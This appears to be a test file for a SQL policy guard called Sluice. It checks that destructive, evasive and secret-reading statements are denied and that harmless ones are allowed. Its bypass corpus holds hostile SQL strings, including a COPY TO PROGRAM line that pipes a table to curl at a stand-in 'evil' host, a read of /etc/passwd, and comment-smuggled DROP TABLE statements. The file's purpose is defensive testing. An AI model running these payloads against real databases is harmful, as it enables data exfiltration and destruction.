import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import type { PolicyDocument } from "../rules";
import { guardedPolicy } from "./adversarial-corpus";
import { initSqlParser } from "./classify";
import { compileGuard } from "./guard";

beforeAll(() => initSqlParser());

/** The typical production policy the adversarial corpus is judged against. */
const prodPolicy = guardedPolicy;

const guard = compileGuard([prodPolicy]);

/** Attempts to get destructive or protected statements past the guard. Each must be denied. */
const bypassCorpus: [string, string][] = [
  ["DROP TABLE users", "no-ddl"],
  ["drop table users", "no-ddl"],
  ["DrOp TaBlE users", "no-ddl"],
  ["/* harmless */ DROP TABLE users", "no-ddl"],
  ["-- comment\nDROP TABLE users", "no-ddl"],
  ["/* nested /* comment */ still */ DROP TABLE users", "no-ddl"],
  ["SELECT 1; DROP TABLE users", "no-ddl"],
  ["SELECT 'a'';DROP TABLE x --'; TRUNCATE users", "no-ddl"],
  ["SELECT $$ quoted $$; DROP TABLE users", "no-ddl"],
  ["SELECT $tag$ ; $$ ; $tag$; ALTER TABLE users ADD COLUMN x int", "no-ddl"],
  ["TRUNCATE users", "no-ddl"],
  ["truncate table a, b cascade", "no-ddl"],
  ["ALTER SYSTEM SET work_mem = '1GB'", "no-ddl"],
  ["GRANT ALL ON users TO public", "no-ddl"],
  ["REVOKE SELECT ON users FROM app", "no-ddl"],
  ["COPY users TO PROGRAM 'curl -d @- http://evil'", "no-ddl"],
  ["copy users from program 'cat /etc/passwd'", "no-ddl"],
  ["DELETE FROM users", "where-required"],
  ["UPDATE users SET admin = true", "where-required"],
  ["WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", "where-required"],
  ["WITH x AS (UPDATE users SET admin = true RETURNING id) SELECT 1", "where-required"],
  ["EXPLAIN ANALYZE DELETE FROM users", "where-required"],
  ["PREPARE wipe AS DELETE FROM users", "where-required"],
  ["DO $$ BEGIN DROP TABLE users; END $$", "no-ddl"],
  ["DO $body$ DECLARE n int; BEGIN DELETE FROM users; END $body$", "where-required"],
  ["do language plpgsql $$ begin if true then truncate users; end if; end $$", "no-ddl"],
  ["DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$", "sluice.opaque"],
  ["EXECUTE wipe", "sluice.opaque"],
  ["SELECT * FROM vault.tokens", "protect-secrets"],
  ["select * from VAULT.tokens", "protect-secrets"],
  ['select * from "vault"."tokens"', "protect-secrets"],
  ["SELECT * FROM api_secrets", "protect-secrets"],
  ["SELECT (SELECT max(x) FROM public.api_secrets)", "protect-secrets"],
  ["DROP SCHEMA vault CASCADE", "no-ddl"],
  ["DELETE FROM vault.tokens WHERE id = 1", "protect-secrets"],
  ["UPDATE public.api_secrets SET v = 'x' WHERE id = 1", "protect-secrets"],
  ["INSERT INTO vault.tokens VALUES (1)", "protect-secrets"],
  ["COPY vault.tokens TO STDOUT", "protect-secrets"],
  [
    "MERGE INTO api_secrets s USING src ON s.id = src.id WHEN MATCHED THEN UPDATE SET v = src.v",
    "protect-secrets",
  ],
  ["SELECT * INTO vault.copy FROM users", "protect-secrets"],
  ["CREATE INDEX ON vault.tokens (id)", "protect-secrets"],
  ["SELEC 1", "sluice.unparseable"],
  ["SELECT 'unterminated", "sluice.unparseable"],
];

/** Everyday statements that mention dangerous words without doing anything dangerous. */
const benignCorpus = [
  "SELECT 1 AS delete",
  'SELECT 1 AS "drop"',
  "SELECT 'DROP TABLE users' AS text",
  "SELECT $$ DELETE FROM users $$",
  "SELECT 1 -- DROP TABLE users",
  "SELECT 1 /* TRUNCATE users */",
  "SELECT id, email FROM users WHERE id = $1",
  "SELECT truncate_me FROM drops",
  "UPDATE_LOG",
  "",
  "   ",
  "-- only a comment",
  "BEGIN",
  "COMMIT",
  "SET search_path = public",
  "SHOW server_version",
  "EXPLAIN DELETE FROM users",
  "WITH d AS (SELECT 1) SELECT * FROM d",
  "SELECT count(*) FROM pg_stat_activity",
  "INSERT INTO audit_notes (note) VALUES ('drop table users')",
];

describe("SQL guard", () => {
  it.each(bypassCorpus)("denies %j (%s)", (sql, rule) => {
    const v = guard.evaluate(sql);
    expect(v).toMatchObject({ action: "deny", rule });
  });

  it.each(benignCorpus.filter((s) => s !== "UPDATE_LOG"))("allows %j", (sql) => {
    expect(guard.evaluate(sql)).toEqual({ action: "allow" });
  });

  it("never lets an allowed statement's verdict stand for another of the same literal shape", () => {
    const g = compileGuard([prodPolicy]);
    // Literals that are code or options: a harmless one is allowed first, then the same shape
    // with a destructive body must still be judged on its own.
    const pairs: [string, string][] = [
      ["DO 'BEGIN PERFORM 1; END'", "DO 'BEGIN DROP TABLE users; END'"],
      ["DO $$BEGIN PERFORM 1; END$$", "DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$"],
      ["EXPLAIN (ANALYZE 'off') DELETE FROM users", "EXPLAIN (ANALYZE 'on') DELETE FROM users"],
    ];
    for (const [harmless, harmful] of pairs) {
      expect(g.evaluate(harmless)).toEqual({ action: "allow" });
      expect(g.evaluate(harmful).action).not.toBe("allow");
      // and the cached verdict of the exact text stays the same, every time
      expect(g.evaluate(harmful)).toEqual(g.evaluate(harmful));
    }
  });

  it("denies text that is not SQL on a guarded connection", () => {
    expect(guard.evaluate("UPDATE_LOG")).toMatchObject({ action: "deny", rule: "sluice.unparseable" });
  });

  it("holds UPDATE and DELETE with a WHERE clause for review, naming the review rule", () => {
    const v = guard.evaluate("UPDATE accounts SET balance = 0 WHERE id = 7");
    expect(v).toMatchObject({
      action: "review",
      rule: "dml-review",
      reviewRule: "dml-review",
      policyName: "prod",
      statement: "UPDATE accounts SET balance = 0 WHERE id = 7",
    });
  });

  it("names the policy and the rule in the client message", () => {
    const v = guard.evaluate("DROP TABLE users");
    expect(v.action === "deny" && v.message).toBe(
      'blocked by Sluice policy "prod", rule "no-ddl": the statement is not allowed on this connection',
    );
  });

  it("denies the whole query string when any statement in it is denied", () => {
    const v = guard.evaluate("SELECT 1; SELECT 2; DROP TABLE users; SELECT 3");
    expect(v).toMatchObject({ action: "deny", statement: "DROP TABLE users" });
  });

  it("does not parse at all on a connection without SQL rules", () => {
    const open = compileGuard([{ ...prodPolicy, guardrails: [], reviewRules: [] }]);
    expect(open.active).toBe(false);
    expect(open.evaluate("this is not sql")).toEqual({ action: "allow" });
  });

  it("keeps read-only lanes read-only", () => {
    const ro = compileGuard([
      { ...prodPolicy, reviewRules: [], guardrails: [{ name: "read-only", action: "deny", readOnly: true }] },
    ]);
    for (const sql of [
      "SELECT * FROM users",
      "SHOW work_mem",
      "BEGIN; SELECT 1; COMMIT",
      "EXPLAIN SELECT 1",
      "SET statement_timeout = '5s'",
      "DECLARE c CURSOR FOR SELECT 1",
    ]) {
      expect(ro.evaluate(sql), sql).toEqual({ action: "allow" });
    }
    for (const sql of [
      "INSERT INTO t VALUES (1)",
      "SELECT * INTO copy_of_users FROM users",
      "SELECT * FROM users FOR UPDATE",
      "SELECT nextval('seq')",
      "SELECT pg_terminate_backend(42)",
      "SELECT set_config('default_transaction_read_only', 'off', false)",
      "SET default_transaction_read_only = off",
      "SET ROLE postgres",
      "CREATE TABLE t (a int)",
      "WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM x",
      "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
      "COPY t FROM STDIN",
      "LOCK TABLE t",
      "VACUUM",
    ]) {
      expect(ro.evaluate(sql), sql).toMatchObject({ action: "deny", rule: "read-only" });
    }
  });

  it("applies regex text rules to the statement text", () => {
    const g = compileGuard([
      {
        ...prodPolicy,
        reviewRules: [],
        guardrails: [{ name: "no-sleep", action: "deny", pattern: "pg_sleep\\s*\\(" }],
      },
    ]);
    expect(g.evaluate("select pg_sleep (10)")).toMatchObject({ action: "deny", rule: "no-sleep" });
    expect(g.evaluate("select 1")).toEqual({ action: "allow" });
  });

  it("a guardrail with action review and no review rule in its policy denies", () => {
    const g = compileGuard([
      {
        ...prodPolicy,
        reviewRules: [],
        guardrails: [{ name: "drop-review", action: "review", statementKinds: ["DROP"] }],
      },
    ]);
    expect(g.evaluate("DROP TABLE t")).toMatchObject({ action: "deny", rule: "drop-review" });
  });

  it("shares verdicts between texts that differ only in values, but not past a text rule", () => {
    const g = compileGuard([
      {
        ...prodPolicy,
        reviewRules: [],
        guardrails: [{ name: "no-secret", action: "deny", pattern: "'secret'" }],
      },
    ]);
    expect(g.evaluate("SELECT * FROM t WHERE name = 'public'")).toEqual({ action: "allow" });
    expect(g.evaluate("SELECT * FROM t WHERE name = 'secret'")).toMatchObject({
      action: "deny",
      rule: "no-secret",
    });
    expect(guard.evaluate("SELECT * FROM t WHERE id = 1")).toEqual({ action: "allow" });
    expect(guard.evaluate("SELECT * FROM t WHERE id = 2; DROP TABLE t")).toMatchObject({ action: "deny" });
  });

  it("never throws and fails closed on arbitrary input", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (sql) => {
        const v = guard.evaluate(sql);
        expect(["allow", "deny", "review"]).toContain(v.action);
      }),
      { numRuns: 500 },
    );
    const pieces = fc.constantFrom(
      "; DROP TABLE users ;",
      "; DELETE FROM users ;",
      "; TRUNCATE users ;",
      "SELECT 1",
      "/* c */",
      "-- c\n",
      "'x'",
      "$$ y $$",
      ";",
      " ",
      "(",
      "WITH a AS (",
      ")",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        const sql = parts.join(" ");
        const v = guard.evaluate(sql);
        // Whatever the parser makes of it, a string that executes a destructive
        // statement is never allowed.
        if (v.action === "allow") {
          expect(/\b(DROP|TRUNCATE)\b|DELETE FROM users(?! WHERE)/.test(stripInert(sql))).toBe(false);
        }
      }),
      { numRuns: 1000 },
    );
  });
});

/** Removes comments and quoted text so only what would execute remains (for the property above). */
function stripInert(sql: string): string {
  return sql
    .replace(/\/\*[\s\S]*?\*\//g, " ")
    .replace(/--[^\n]*/g, " ")
    .replace(/\$\$[\s\S]*?\$\$/g, " ")
    .replace(/'[^']*'/g, " ");
}
